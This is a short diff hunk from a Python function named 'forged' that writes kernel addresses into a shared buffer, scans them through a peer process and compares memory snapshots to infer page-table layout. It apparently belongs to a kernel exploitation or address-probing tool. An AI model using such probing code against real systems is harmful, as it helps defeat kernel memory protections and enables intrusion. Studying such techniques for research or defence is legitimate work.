@@ -248,10 +248,10 @@ def forged(seed: int) -> dict[str, Any]:
             for address in (kernel, kernel & (1 << 47) - 1):
                 memory[at : at + 16] = struct.pack("<2Q", address, 0)
                 assert peer.ask(Op.SCAN, shift, 1)[0] == 0
-                low = placed["low"][0]
-                marks.append(bytes(memory[low : low + 512]))
+                begin = placed["marks"][0]
+                marks.append(bytes(memory[begin : begin + 1024]))
             tables[shift] = marks[0] == marks[1]
-            upper = marks[0][256:] if shift == 39 else b""
+            upper = marks[0][512:] if shift == 39 else b""
     finally:
         child.kill()
         child.wait()
